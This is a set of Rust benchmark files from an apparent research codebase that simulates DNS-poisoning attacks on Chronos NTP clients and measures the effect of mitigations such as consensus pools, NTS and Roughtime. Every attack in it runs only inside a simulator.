        fleet.set_metrics(metered.then(|| Arc::clone(&metrics)));
        fleet.reset(42);
        fleet.run_until(horizon);
        criterion::black_box(fleet.shifted_fraction(horizon))
    });
    let report = {
        fleet.set_metrics(None);
        fleet.reset(42);
        fleet.run_until(horizon);
        fleet.report()
    };
    println!(
        "fleet_100k: {} clients, {} events, {:.1}% shifted, {} poisoned",
        report.clients,
        report.events,
        100.0 * report.final_shifted_fraction,
        report.poisoned_clients,
    );
    assert!(
        report.final_shifted_fraction > 0.9,
        "the guarded scenario must actually capture the fleet"
    );
    let metered_report = {
        fleet.set_metrics(Some(Arc::clone(&metrics)));
        fleet.reset(42);
        fleet.run_until(horizon);
        fleet.report()
    };
    fleet.set_metrics(None);
    assert_eq!(
        report, metered_report,
        "the metrics side channel must not perturb the simulation"
    );

    // The sharded run: same fleet shape, shards stepped on 4 workers. The
    // rate-ratio guard (sharded/sequential ≥ 2×) is the PR 4 acceptance
    // criterion on the 4-core CI runner.
    let sharded_config = fleet::FleetConfig {
        threads: SHARDED_THREADS,
        ..fleet_attack_config(FLEET_CLIENTS)
    };
    let mut sharded = Fleet::new(sharded_config);
    group.throughput(Throughput::Elements(FLEET_CLIENTS as u64));
    group.bench_function("fleet_100k_sharded", |b| {
        b.iter(|| {
            sharded.reset(42);
            sharded.run_until(horizon);
            criterion::black_box(sharded.shifted_fraction(horizon))
        })
    });
    let sharded_report = {
        sharded.reset(42);
        sharded.run_until(horizon);
        sharded.report()
    };
    println!(
        "fleet_100k_sharded: {} shards on {} threads",
        sharded.shard_count(),
        SHARDED_THREADS,
    );
    assert_eq!(
        report, sharded_report,
        "sharded stepping must be byte-identical to the sequential engine"
    );

    // The per-world reference: same logical scenario, one netsim world per
    // client, worlds pooled/reset across iterations by the sweep engine.
    let configs = perworld_configs();
    group.throughput(Throughput::Elements(PERWORLD_CLIENTS as u64));
    group.bench_function("perworld_8", |b| {
        b.iter(|| {
            let (outcomes, _) = run_scenarios_detailed(&configs, threads, 1, |s, _, _| {
                // Full generation plus a slice of syncing — the same
                // phases every fleet client steps through.
                s.run_pool_generation(SimDuration::from_secs(5_200));
                s.run_for(SimDuration::from_secs(400));
                s.attacker_fraction()
            });
            criterion::black_box(outcomes)
        })
    });
    group.finish();
    drop(group);

    // Where the instrumented iterations spent their time, attached to
    // the JSON artifact as the `stage_timings` section.
    c.record_stage_timings(metrics.stage_summaries().into_iter().map(|s| StageTiming {
        stage: s.stage.to_string(),
        count: s.count,
        total_secs: s.total_secs,
    }));
}

criterion_group!(benches, bench_e14);
criterion_main!(benches);
