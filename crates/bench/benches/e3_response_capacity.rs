//! E3 — how many A records fit in one non-fragmented DNS response,
//! measured against the real encoder (paper claim: 89 at MTU 1500).

use bench::banner;
use chronos_pitfalls::experiments::{e3_table, run_e3};
use criterion::{criterion_group, criterion_main, Criterion};
use dnslab::capacity::max_a_records;
use dnslab::name::Name;

fn bench_e3(c: &mut Criterion) {
    banner("E3 — response capacity (claim C2)");
    let rows = run_e3();
    println!("{}", e3_table(&rows));

    let pool: Name = "pool.ntp.org".parse().unwrap();
    c.bench_function("e3_response_capacity/max_at_1500_edns", |b| {
        b.iter(|| max_a_records(&pool, 1500, true))
    });
    c.bench_function("e3_response_capacity/full_sweep", |b| b.iter(run_e3));
}

criterion_group!(benches, bench_e3);
criterion_main!(benches);
