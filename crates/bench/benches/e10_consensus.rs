//! E10 — consensus pool generation (the fix the paper points to, [12]):
//! quorum rules vs poisoned-resolver counts, and the rotation/consensus
//! tension, fanned over the sweep engine.

use bench::banner;
use chronos_pitfalls::experiments::{e10_table, run_e10};
use chronos_pitfalls::montecarlo::default_threads;
use criterion::{criterion_group, criterion_main, Criterion};

fn bench_e10(c: &mut Criterion) {
    banner("E10 — consensus pool generation vs poisoned resolvers");
    let threads = default_threads();
    let rows = run_e10(23, threads);
    println!("{}", e10_table(&rows));
    println!("note the last row: majority-consensus over the *rotating* pool");
    println!("starves the pool — the fix needs stable answer sets (e.g. DoH");
    println!("to replicated backends), exactly what the DSN-W proposal builds.");

    let mut group = c.benchmark_group("e10_consensus");
    group.sample_size(10);
    group.bench_function("five_cases", |b| b.iter(|| run_e10(23, threads)));
    group.finish();
}

criterion_group!(benches, bench_e10);
criterion_main!(benches);
