//! E16 — heterogeneous fleets under partial resolver poisoning: the
//! fraction-of-population-shifted vs fraction-of-resolvers-poisoned
//! curve, per tier, from one `run_fleets` sweep.
//!
//! The mixed fleet (stock Chronos : §V-mitigated Chronos : plain NTP at
//! 2:1:1, hashed over 8 independent resolver caches) runs the full
//! 24-round poisoning scenario once per poisoned-resolver count
//! `k ∈ 0..=8`. The guarded target `mixed_90k_sweep` times that whole
//! 9-fleet sweep at 10 000 clients per fleet — the cohort engine's
//! production shape (per-tier stepping, per-resolver timelines,
//! plain-NTP lanes) on `bench-diff`'s [`GUARDED`] list.
//!
//! [`GUARDED`]: bench::benchdiff::GUARDED

use bench::banner;
use chronos_pitfalls::experiments::{e16_table, run_e16};
use chronos_pitfalls::montecarlo::default_threads;
use chronos_pitfalls::report::Series;
use criterion::{criterion_group, criterion_main, Criterion, Throughput};

/// Clients per fleet in the guarded sweep.
const CLIENTS: usize = 10_000;
/// Independent resolver caches (9 sweep points: k = 0..=8).
const RESOLVERS: usize = 8;

fn bench_e16(c: &mut Criterion) {
    banner("E16 — heterogeneous fleet vs fraction of resolvers poisoned");
    let threads = default_threads();

    // Deliverable preamble: the figure neither the paper nor the repo
    // could draw before the cohort layer — capture per tier as the
    // attacker's resolver coverage grows.
    let result = run_e16(42, CLIENTS, RESOLVERS, threads);
    println!("{}", e16_table(&result));
    println!("fraction shifted beyond the 100 ms bound vs fraction of resolvers poisoned:");
    println!(
        "{}",
        Series::render_columns(&result.series, "poisoned", RESOLVERS + 1)
    );

    // The guarded sweep: all 9 partial-poisoning fleets (90k clients
    // total) through run_fleets, fleets pooled/reset inside each call.
    let total_clients = (CLIENTS * (RESOLVERS + 1)) as u64;
    let mut group = c.benchmark_group("e16_partial_poisoning");
    group.sample_size(5);
    group.throughput(Throughput::Elements(total_clients));
    group.bench_function("mixed_90k_sweep", |b| {
        b.iter(|| criterion::black_box(run_e16(42, CLIENTS, RESOLVERS, threads)))
    });
    group.finish();

    // Sanity anchors on the guarded scenario, so the timing can never
    // drift away from the semantics it is supposed to measure.
    let all = result.series.last().expect("fleet-wide series");
    assert_eq!(all.label, "all clients");
    assert_eq!(result.rows[0].report.poisoned_clients, 0);
    assert!(
        all.points.last().expect("k = R point").1 > 0.4,
        "full resolver coverage must capture the unmitigated tiers"
    );
    let chronos = &result.series[0];
    assert!(
        chronos.points.last().expect("k = R point").1 > 0.9,
        "stock Chronos tier fully captured at k = R"
    );
}

criterion_group!(benches, bench_e16);
criterion_main!(benches);
