//! E5 — the Chronos security bound: expected years to shift a client by
//! >100 ms vs the attacker's pool fraction, collapsing at 2/3 (89/133).

use bench::banner;
use chronos_pitfalls::experiments::{e5_series_from_rows, e5_table, run_e5};
use chronos_pitfalls::montecarlo::default_threads;
use chronos_pitfalls::report::Series;
use criterion::{criterion_group, criterion_main, Criterion};

const FRACTIONS: &[f64] = &[
    0.05, 0.10, 0.20, 0.25, 0.33, 0.45, 0.55, 0.60, 0.65, 0.669, 0.75,
];

fn bench_e5(c: &mut Criterion) {
    banner("E5 — security bound vs attacker pool fraction (claim C6)");
    let threads = default_threads();
    for n in [96usize, 133, 500] {
        // One grid sweep per n: table + figure from the same rows.
        let rows = run_e5(n, 15, 5, FRACTIONS, threads);
        println!("{}", e5_table(n, &rows));
        println!(
            "{}",
            Series::render_columns(&e5_series_from_rows(&rows), "frac", FRACTIONS.len())
        );
    }

    c.bench_function("e5_security_bound/sweep_n133", |b| {
        b.iter(|| run_e5(133, 15, 5, FRACTIONS, threads))
    });
}

criterion_group!(benches, bench_e5);
criterion_main!(benches);
