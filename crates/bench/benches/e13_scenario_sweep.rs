//! E13 — scenario-sweep throughput: pooled/reset worlds (`run_scenarios`)
//! vs a fresh `Scenario::build` per trial, on a 32-config × 256-trial grid.
//!
//! This guards PR 2's tentpole: `World::reset` + `WorldPool` must keep
//! beating per-trial reconstruction by ≥ 2× on grid-shaped workloads (the
//! shape of every success-probability / security-bound sweep in the
//! paper). `bench-diff` gates CI on both targets' per-iter means.

use bench::banner;
use chronos_pitfalls::experiments::compressed_chronos;
use chronos_pitfalls::montecarlo::{default_threads, run_grid, run_scenarios_detailed, trial_seed};
use chronos_pitfalls::scenario::{Scenario, ScenarioConfig};
use criterion::{criterion_group, criterion_main, Criterion, Throughput};
use netsim::time::SimDuration;

const CONFIGS: usize = 32;
const TRIALS: u32 = 256;

/// The paper-shaped world (150-server universe behind 14 nameservers —
/// `ScenarioConfig::default`) probed with one pool round per trial: the
/// regime of dense parameter grids, where world construction dominates
/// cheap trials and pooling pays.
fn grid() -> Vec<ScenarioConfig> {
    (0..CONFIGS as u64)
        .map(|i| {
            let mut chronos = compressed_chronos(1, SimDuration::from_secs(200));
            chronos.sample_size = 6;
            chronos.trim = 2;
            ScenarioConfig {
                seed: 1000 + i,
                // A large rotation universe behind a small NS set: heavy to
                // construct, cheap to probe — the measurement-study shape.
                benign_universe: 640,
                ns_count: 2,
                chronos,
                ..ScenarioConfig::default()
            }
        })
        .collect()
}

fn trial(s: &mut Scenario) -> usize {
    // One DNS pool round plus the first (small) sample round: enough sim
    // work to be a real trial, short enough that construction matters.
    s.run_pool_generation(SimDuration::from_secs(2));
    s.chronos().pool().len()
}

fn bench_e13(c: &mut Criterion) {
    banner("E13 — pooled scenario sweeps vs per-trial world rebuild");
    let threads = default_threads();
    let configs = grid();

    // Correctness + pool-effectiveness preamble (printed once).
    let (pooled, stats) = run_scenarios_detailed(&configs, threads, TRIALS, |s, _, _| trial(s));
    let rebuilt = run_grid(&configs, threads, TRIALS, |cfg, _, t| {
        let mut s = Scenario::build(ScenarioConfig {
            seed: trial_seed(cfg.seed, t),
            ..cfg.clone()
        });
        trial(&mut s)
    });
    assert_eq!(pooled, rebuilt, "pooled sweep must match per-trial rebuild");
    println!(
        "grid {CONFIGS} configs x {TRIALS} trials on {threads} threads: \
         {} trials ran on {} built worlds ({} pool handoffs) — \
         {:.0}x fewer constructions than rebuild-per-trial\n",
        stats.trials,
        stats.worlds_built,
        stats.worlds_adopted,
        stats.trials as f64 / stats.worlds_built.max(1) as f64,
    );

    let mut group = c.benchmark_group("e13_scenario_sweep");
    group.sample_size(5);
    group.throughput(Throughput::Elements(CONFIGS as u64 * u64::from(TRIALS)));
    group.bench_function("pooled_32x256", |b| {
        b.iter(|| {
            let grid = run_scenarios_detailed(&configs, threads, TRIALS, |s, _, _| trial(s));
            criterion::black_box(grid.0)
        })
    });
    group.bench_function("rebuild_32x256", |b| {
        b.iter(|| {
            let grid = run_grid(&configs, threads, TRIALS, |cfg, _, t| {
                let mut s = Scenario::build(ScenarioConfig {
                    seed: trial_seed(cfg.seed, t),
                    ..cfg.clone()
                });
                trial(&mut s)
            });
            criterion::black_box(grid)
        })
    });
    group.finish();
}

criterion_group!(benches, bench_e13);
criterion_main!(benches);
