//! E17 — deterministic fault injection over the mixed fleet: the E16
//! cohort mix under NTP sample loss, DNS SERVFAILs, a boot-time resolver
//! outage and RFC 8767 serve-stale, swept loss × outage coverage.
//!
//! The guarded target `faulty_90k` times the whole 10-point grid (5 loss
//! levels × {no outage, full outage}) at 9 000 clients per fleet — the
//! fault lanes' production shape: every pool query consults the fault
//! substreams, lossy rounds run the real reject/panic escalation, and
//! plain-NTP boots retry with backoff through outage windows.
//!
//! [`GUARDED`]: bench::benchdiff::GUARDED

use bench::banner;
use chronos_pitfalls::experiments::{e17_table, run_e17, E17_LOSSES};
use chronos_pitfalls::montecarlo::default_threads;
use chronos_pitfalls::report::Series;
use criterion::{criterion_group, criterion_main, Criterion, Throughput};

/// Clients per fleet in the guarded grid.
const CLIENTS: usize = 9_000;
/// Independent resolver caches per fleet.
const RESOLVERS: usize = 4;

fn bench_e17(c: &mut Criterion) {
    banner("E17 — fault injection: loss, outages, serve-stale, retries");
    let threads = default_threads();

    // Deliverable preamble: the degraded-network grid — per-tier capture,
    // panic and retry counters as loss and outage coverage grow.
    let result = run_e17(42, CLIENTS, RESOLVERS, threads);
    println!("{}", e17_table(&result));
    println!("per-tier curves over the loss axis (x = loss probability):");
    println!(
        "{}",
        Series::render_columns(&result.series, "loss", E17_LOSSES.len())
    );

    // The guarded grid: all 10 faulty fleets (90k clients total) through
    // one run_fleets call, fleets pooled/reset inside it.
    let total_clients = (CLIENTS * result.rows.len()) as u64;
    let mut group = c.benchmark_group("e17_degraded_network");
    group.sample_size(5);
    group.throughput(Throughput::Elements(total_clients));
    group.bench_function("faulty_90k", |b| {
        b.iter(|| criterion::black_box(run_e17(42, CLIENTS, RESOLVERS, threads)))
    });
    group.finish();

    // Sanity anchors so the timing can never drift from the semantics it
    // measures: the inert corner is fault-free, loss produces real
    // losses and panics, and the outage produces retries.
    let base = &result.rows[0];
    assert_eq!((base.loss, base.outage_coverage), (0.0, 0));
    assert_eq!(
        base.report.faults.total(),
        0,
        "inert corner takes no faults"
    );
    let heavy = result
        .rows
        .iter()
        .find(|r| r.loss == 0.15 && r.outage_coverage == 0)
        .expect("heavy-loss row");
    assert!(heavy.report.faults.ntp_losses > 0);
    assert!(heavy.report.totals.panics > base.report.totals.panics);
    let outage = result
        .rows
        .iter()
        .find(|r| r.loss == 0.0 && r.outage_coverage == RESOLVERS)
        .expect("outage row");
    assert!(outage.report.faults.boot_retries > 0);
}

criterion_group!(benches, bench_e17);
criterion_main!(benches);
