//! E4 — capture probability: plain NTP (1 poisoning opportunity) vs
//! Chronos (12 winning opportunities of 24): 1 − (1 − q)^12.

use bench::banner;
use chronos_pitfalls::experiments::{e4_series_from_rows, e4_table, run_e4};
use chronos_pitfalls::montecarlo::default_threads;
use chronos_pitfalls::report::Series;
use criterion::{criterion_group, criterion_main, Criterion, Throughput};

const QS: &[f64] = &[0.001, 0.01, 0.05, 0.1, 0.2, 0.3, 0.5, 0.7, 0.9];

fn bench_e4(c: &mut Criterion) {
    banner("E4 — success-probability amplification (claim C4)");
    let threads = default_threads();
    // One grid sweep produces both the table and the figure series.
    let rows = run_e4(42, QS, 20_000, threads);
    println!("{}", e4_table(&rows));
    println!(
        "{}",
        Series::render_columns(&e4_series_from_rows(&rows), "q", QS.len())
    );

    let mut group = c.benchmark_group("e4_success_probability");
    group.throughput(Throughput::Elements(QS.len() as u64 * 2_000));
    group.bench_function("sweep_mc2k", |b| b.iter(|| run_e4(42, QS, 2_000, threads)));
    group.finish();
}

criterion_group!(benches, bench_e4);
criterion_main!(benches);
