//! E11 — the blind-spoofing baseline: poisoning without fragments or BGP
//! is easy against pre-Kaminsky resolvers and hopeless against randomized
//! ones, which is why the paper's §II attacks matter at all.

use bench::banner;
use chronos_pitfalls::experiments::{e11_table, run_e11};
use criterion::{criterion_group, criterion_main, Criterion};

fn bench_e11(c: &mut Criterion) {
    banner("E11 — blind (Kaminsky) spoofing baseline");
    let rows = run_e11(29);
    println!("{}", e11_table(&rows));

    let mut group = c.benchmark_group("e11_blind_spoof");
    group.sample_size(10);
    group.bench_function("both_profiles", |b| b.iter(|| run_e11(29)));
    group.finish();
}

criterion_group!(benches, bench_e11);
criterion_main!(benches);
