//! E12 — Monte-Carlo trial-dispatch throughput: the lock-free batched
//! runner vs the retained mutex-per-result baseline, on a 10 000-trial
//! cheap-closure workload (the regime where dispatch overhead dominates),
//! plus the allocation-free Chronos selection hot path vs its sort-based
//! reference.

use bench::banner;
use chronos::select::{chronos_select_with, reference, SelectScratch};
use chronos_pitfalls::montecarlo::{baseline_run_trials, run_trials, TrialBudget};
use criterion::{black_box, criterion_group, criterion_main, Criterion, Throughput};

const TRIALS: u32 = 10_000;
const THREADS: usize = 4;

/// A cheap trial: a few dozen arithmetic ops, so the measurement is
/// dominated by dispatch (claiming work, writing the result) rather than
/// the trial body.
fn cheap_trial(i: u32) -> u64 {
    let mut x = u64::from(i).wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1;
    for _ in 0..4 {
        x ^= x >> 7;
        x = x.wrapping_mul(0x2545_f491_4f6c_dd1d);
    }
    x
}

fn bench_dispatch(c: &mut Criterion) {
    banner("E12 — trial-dispatch throughput (lock-free vs mutex baseline)");

    // Correctness cross-check before timing anything.
    let a = run_trials(TRIALS, THREADS, cheap_trial);
    let b = baseline_run_trials(TRIALS, THREADS, cheap_trial);
    assert_eq!(a, b, "lock-free runner must match the baseline");

    let mut group = c.benchmark_group("e12_montecarlo_dispatch");
    group.sample_size(30);
    group.throughput(Throughput::Elements(u64::from(TRIALS)));
    group.bench_function("lockfree_10k_cheap", |bch| {
        bch.iter(|| run_trials(black_box(TRIALS), THREADS, cheap_trial))
    });
    group.bench_function("lockfree_batch1_10k_cheap", |bch| {
        bch.iter(|| {
            chronos_pitfalls::montecarlo::run_trials_with_budget(
                black_box(TRIALS),
                THREADS,
                TrialBudget::fixed(1),
                cheap_trial,
            )
        })
    });
    group.bench_function("baseline_mutex_10k_cheap", |bch| {
        bch.iter(|| baseline_run_trials(black_box(TRIALS), THREADS, cheap_trial))
    });
    group.finish();
}

fn bench_selection(c: &mut Criterion) {
    banner("E12b — Chronos selection hot path (scratch+partial vs sort reference)");
    const MS: i64 = 1_000_000;
    // A plausible panic-mode-sized round: 133 samples, 1/3 shifted.
    let offsets: Vec<i64> = (0..133)
        .map(|i| {
            if i % 3 == 0 {
                80 * MS + i64::from(i) * MS / 97
            } else {
                (i64::from(i % 7) - 3) * MS / 4
            }
        })
        .collect();
    let mut scratch = SelectScratch::with_capacity(offsets.len());
    assert_eq!(
        chronos_select_with(&mut scratch, &offsets, 5, 25 * MS, 100 * MS),
        reference::chronos_select_sorted(&offsets, 5, 25 * MS, 100 * MS),
    );

    let mut group = c.benchmark_group("e12_chronos_select");
    group.sample_size(30);
    group.throughput(Throughput::Elements(10_000));
    group.bench_function("scratch_partial_133x10k", |bch| {
        bch.iter(|| {
            let mut acc = 0i64;
            for _ in 0..10_000 {
                if let chronos::select::ChronosDecision::Accept { correction_ns, .. } =
                    chronos_select_with(&mut scratch, black_box(&offsets), 5, 25 * MS, 500 * MS)
                {
                    acc = acc.wrapping_add(correction_ns);
                }
            }
            acc
        })
    });
    group.bench_function("reference_sort_133x10k", |bch| {
        bch.iter(|| {
            let mut acc = 0i64;
            for _ in 0..10_000 {
                if let chronos::select::ChronosDecision::Accept { correction_ns, .. } =
                    reference::chronos_select_sorted(black_box(&offsets), 5, 25 * MS, 500 * MS)
                {
                    acc = acc.wrapping_add(correction_ns);
                }
            }
            acc
        })
    });
    group.finish();
}

criterion_group!(benches, bench_dispatch, bench_selection);
criterion_main!(benches);
