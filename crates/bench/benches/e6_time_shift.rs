//! E6 — the headline traces: plain NTP vs Chronos clock error over time,
//! attacked and unattacked.

use bench::banner;
use chronos_pitfalls::report::Series;
use chronos_pitfalls::shift::{run_time_shift, TimeShiftConfig};
use criterion::{criterion_group, criterion_main, Criterion};

fn bench_e6(c: &mut Criterion) {
    banner("E6 — time-shift traces (clock error in ms by simulated hour)");
    let result = run_time_shift(&TimeShiftConfig::compressed(42));
    let series = [
        result.plain_benign.clone(),
        result.chronos_benign.clone(),
        result.plain_attacked.clone(),
        result.chronos_attacked.clone(),
    ];
    println!("{}", Series::render_columns(&series, "hour", 20));
    let (benign, malicious) = result.attacked_pool;
    println!("attacked pool: {benign} benign + {malicious} malicious");
    println!(
        "final errors: plain(attacked) {:.0} ms, chronos(attacked) {:.0} ms",
        result.plain_final_error_ms, result.chronos_final_error_ms
    );

    let mut group = c.benchmark_group("e6_time_shift");
    group.sample_size(10);
    group.bench_function("compressed_run", |b| {
        b.iter(|| run_time_shift(&TimeShiftConfig::compressed(42)))
    });
    group.finish();
}

criterion_group!(benches, bench_e6);
criterion_main!(benches);
