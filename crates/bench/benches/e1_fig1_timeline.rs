//! E1 / Figure 1 — the DNS poisoning attack timeline on Chronos pool
//! generation: hourly rounds, poisoning at round 12, pool frozen by the
//! high-TTL cache entry at 44 benign vs 89 malicious.

use bench::banner;
use chronos_pitfalls::experiments::{run_e1, E1Strategy};
use criterion::{criterion_group, criterion_main, Criterion};

fn bench_e1(c: &mut Criterion) {
    banner("E1 / Figure 1 — attack timeline (oracle poisoning at round 12)");
    let oracle = run_e1(42, E1Strategy::Oracle { round: 12 }, 24);
    println!("{}", oracle.table());
    println!(
        "first malicious round: {:?}; final attacker share {:.1}%; attack {}",
        oracle.first_malicious_round,
        100.0 * oracle.final_fraction,
        if oracle.attack_succeeds {
            "succeeds"
        } else {
            "fails"
        }
    );
    banner("E1b — same timeline via packet-level defragmentation poisoning");
    let frag = run_e1(42, E1Strategy::Fragmentation, 24);
    println!("{}", frag.table());
    if let Some(s) = frag.frag_stats {
        println!(
            "attacker: {} probes / {} plants / {} fragments / {} icmp; captured at {:?}",
            s.probes, s.plants, s.fragments_sent, s.icmp_sent, frag.first_malicious_round
        );
    }

    let mut group = c.benchmark_group("e1_fig1_timeline");
    group.sample_size(10);
    group.bench_function("oracle_24_rounds", |b| {
        b.iter(|| run_e1(42, E1Strategy::Oracle { round: 12 }, 24))
    });
    group.bench_function("frag_12_rounds", |b| {
        b.iter(|| run_e1(42, E1Strategy::Fragmentation, 12))
    });
    group.finish();
}

criterion_group!(benches, bench_e1);
criterion_main!(benches);
