//! E18 — partial secure-time deployment: the mixed fleet with NTS and
//! Roughtime cohort tiers alongside the legacy NTP/Chronos mix, swept
//! deployment fraction × poisoned resolvers.
//!
//! The guarded target `secure_grid_90k` times the whole 10-point grid
//! (5 deployment levels × {1 poisoned, all poisoned}) at 9 000 clients
//! per fleet — the secure lanes' production shape: NTS clients run the
//! association/re-key key-lifetime machinery on every poll, Roughtime
//! clients resolve M sources independently and take the strict majority
//! of midpoints.
//!
//! The within-run ratio guard pins the secure tiers' overhead: a fully
//! secure fleet may cost at most ~2.5× the all-legacy fleet of the same
//! size, measured in the same process moments apart.
//!
//! [`GUARDED`]: bench::benchdiff::GUARDED

use bench::banner;
use chronos_pitfalls::experiments::{e18_config, e18_table, run_e18, E18_DEPLOYMENTS};
use chronos_pitfalls::montecarlo::default_threads;
use chronos_pitfalls::report::Series;
use criterion::{criterion_group, criterion_main, Criterion, Throughput};

/// Clients per fleet in the guarded grid.
const CLIENTS: usize = 9_000;
/// Independent resolver caches per fleet.
const RESOLVERS: usize = 4;

fn bench_e18(c: &mut Criterion) {
    banner("E18 — partial secure-time deployment: NTS + Roughtime tiers");
    let threads = default_threads();

    // Deliverable preamble: the deployment × poisoning grid — per-tier
    // capture, NTS association captures, Roughtime inconsistency flags.
    let result = run_e18(42, CLIENTS, RESOLVERS, threads);
    println!("{}", e18_table(&result));
    println!("per-tier curves over the deployment axis (x = secure fraction):");
    println!(
        "{}",
        Series::render_columns(&result.series, "deployment", E18_DEPLOYMENTS.len())
    );

    // The guarded grid: all 10 fleets (90k clients total) through one
    // run_fleets call, fleets pooled/reset inside it.
    let total_clients = (CLIENTS * result.rows.len()) as u64;
    let mut group = c.benchmark_group("e18_secure_deployment");
    group.sample_size(5);
    group.throughput(Throughput::Elements(total_clients));
    group.bench_function("secure_grid_90k", |b| {
        b.iter(|| criterion::black_box(run_e18(42, CLIENTS, RESOLVERS, threads)))
    });
    group.finish();

    // The ratio-guard pair: one all-legacy fleet and one fully secure
    // fleet, same size, same process — benchdiff enforces
    // min(insecure)/min(secure) ≥ 0.4, i.e. the secure lanes cost at
    // most ~2.5× the legacy mix.
    let single = |deployment: f64| {
        let mut config = e18_config(42, CLIENTS, RESOLVERS, deployment, RESOLVERS);
        config.threads = threads;
        config
    };
    let mut pair = c.benchmark_group("e18_secure_deployment");
    pair.sample_size(5);
    pair.throughput(Throughput::Elements(CLIENTS as u64));
    pair.bench_function("insecure_9k", |b| {
        b.iter(|| criterion::black_box(fleet::Fleet::new(single(0.0)).run()))
    });
    pair.bench_function("secure_9k", |b| {
        b.iter(|| criterion::black_box(fleet::Fleet::new(single(1.0)).run()))
    });
    pair.finish();

    // Sanity anchors so the timing can never drift from the semantics it
    // measures: the zero-deployment corner takes no secure-lane events,
    // NTS capture is the bounded boot-association window, and M = 3
    // Roughtime rides out single-resolver poisoning flat at zero.
    let at = |d: f64, k: usize| {
        result
            .rows
            .iter()
            .find(|row| row.deployment == d && row.poisoned_resolvers == k)
            .expect("grid point present")
    };
    let tier = |row: &chronos_pitfalls::experiments::E18Row, label: &str| {
        row.report
            .tiers
            .iter()
            .find(|t| t.label == label)
            .cloned()
            .unwrap_or_else(|| panic!("tier {label} present"))
    };
    let base = at(0.0, RESOLVERS);
    assert_eq!(base.report.secure.captured_associations, 0);
    assert_eq!(base.report.secure.rekeys, 0, "no secure tiers, no re-keys");
    let full = at(1.0, RESOLVERS);
    let nts = tier(full, "nts");
    assert!(nts.secure.captured_associations > 0);
    assert!(
        nts.final_shifted_fraction < base.report.final_shifted_fraction,
        "NTS capture is bounded by the association window"
    );
    let rt_k1 = tier(at(1.0, 1), "roughtime");
    assert_eq!(
        rt_k1.final_shifted_fraction, 0.0,
        "majority-of-midpoints rides out one poisoned resolver"
    );
    // Captured sources exist, yet the curve stays flat: the honest 2-of-3
    // majority out-votes them every round. Loss-free quorums always reach
    // a strict majority, so no round degenerates to an inconsistency flag
    // (that takes an even split — see the lossy-quorum engine tests).
    assert!(rt_k1.secure.captured_associations > 0);
    assert_eq!(rt_k1.secure.detected_inconsistencies, 0);
}

criterion_group!(benches, bench_e18);
criterion_main!(benches);
