//! E9 — packet-level defragmentation poisoning vs the defences that
//! actually matter: IP-ID randomization and cross-traffic noise.

use bench::banner;
use chronos_pitfalls::experiments::{e9_mtu_table, e9_table, run_e9, run_e9_mtu};
use criterion::{criterion_group, criterion_main, Criterion};

fn bench_e9(c: &mut Criterion) {
    banner("E9 — defragmentation poisoning mechanics (§II)");
    let rows = run_e9(17, 12);
    println!("{}", e9_table(&rows));
    let mtu_rows = run_e9_mtu(18, 12);
    println!("{}", e9_mtu_table(&mtu_rows));

    let mut group = c.benchmark_group("e9_frag_poisoning");
    group.sample_size(10);
    group.bench_function("sweep_12_rounds", |b| b.iter(|| run_e9(17, 12)));
    group.finish();
}

criterion_group!(benches, bench_e9);
criterion_main!(benches);
