//! E15 — the million-client smoke: proves the struct-of-arrays budget
//! holds at 10⁶ clients (peak RSS lands in the JSON artifact next to the
//! clients/s rate) and prints the clients/s-vs-threads scaling table the
//! README quotes. Informational only — nothing here is on a perf guard;
//! the point is the memory shape and the scaling trend, not an absolute
//! rate. Not part of the CI bench smoke (a 10⁶-client run per iteration
//! is full-`cargo bench` material).

use bench::banner;
use chronos_pitfalls::experiments::e14_config;
use chronos_pitfalls::montecarlo::default_threads;
use criterion::{criterion_group, criterion_main, Criterion, Throughput};
use fleet::config::FleetAttack;
use fleet::engine::Fleet;
use netsim::time::{SimDuration, SimTime};
use std::time::Instant;

/// The headline population size.
const MILLION: usize = 1_000_000;

/// The same full 24-round early-poisoning scenario `fleet_100k` guards,
/// at an arbitrary population and worker count.
fn config(clients: usize, threads: usize) -> fleet::FleetConfig {
    fleet::FleetConfig {
        threads,
        ..e14_config(
            42,
            clients,
            Some(FleetAttack::paper_default(
                SimTime::from_secs(400),
                SimDuration::from_millis(500),
            )),
        )
    }
}

fn bench_e15(c: &mut Criterion) {
    banner("E15 — million-client fleet smoke (SoA memory budget + scaling)");
    let per_client = Fleet::per_client_footprint_bytes();
    println!(
        "per-client column footprint: {per_client} B ({:.0} MB of columns at 10^6 clients)",
        (MILLION * per_client) as f64 / 1e6
    );

    // The scaling table (single runs, informational): clients/s vs
    // threads at 100k and 1M. One pooled fleet per population size, so
    // the sweep measures stepping, not allocation.
    println!("clients/s through the full poisoning scenario (single runs):");
    println!(
        "{:>10} {:>8} {:>9} {:>12}",
        "clients", "threads", "wall s", "clients/s"
    );
    for &clients in &[100_000usize, MILLION] {
        let mut fleet = Fleet::new(config(clients, 1));
        for threads in [1usize, 2, 4] {
            fleet.reconfigure(config(clients, threads));
            let start = Instant::now();
            fleet.run_until(SimTime::ZERO + fleet.config().horizon);
            let wall = start.elapsed().as_secs_f64();
            println!(
                "{clients:>10} {threads:>8} {wall:>9.2} {:>12.0}",
                clients as f64 / wall
            );
        }
    }

    // The measured target: one full 10⁶-client scenario per iteration on
    // every available core, peak RSS recorded by the JSON writer.
    let threads = default_threads();
    let cfg = config(MILLION, threads);
    let horizon = SimTime::ZERO + cfg.horizon;
    let mut fleet = Fleet::new(cfg);
    let mut group = c.benchmark_group("e15_fleet_million");
    group.sample_size(1);
    group.throughput(Throughput::Elements(MILLION as u64));
    group.bench_function("fleet_1m", |b| {
        b.iter(|| {
            fleet.reset(42);
            fleet.run_until(horizon);
            criterion::black_box(fleet.shifted_fraction(horizon))
        })
    });
    group.finish();
    // The last iteration left the fleet at the horizon: report it.
    let report = fleet.report();
    println!(
        "fleet_1m: {} clients in {} shards on {threads} threads, {} events, {:.1}% shifted",
        report.clients,
        fleet.shard_count(),
        report.events,
        100.0 * report.final_shifted_fraction,
    );
    assert!(
        report.final_shifted_fraction > 0.9,
        "the poisoning scenario must capture the fleet at 10^6 scale too"
    );
    if let Some(rss) = criterion::peak_rss_bytes() {
        println!(
            "peak RSS: {:.0} MB (client columns alone: {:.0} MB)",
            rss as f64 / 1e6,
            (MILLION * per_client) as f64 / 1e6,
        );
    }
}

criterion_group!(benches, bench_e15);
criterion_main!(benches);
