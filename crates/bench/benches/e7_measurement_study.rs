//! E7 — the §II fragmentation measurement study on a synthetic population
//! (16/30 nameservers, 90%/64% fragment acceptance, 14% triggerable).

use bench::banner;
use chronos_pitfalls::experiments::run_e7;
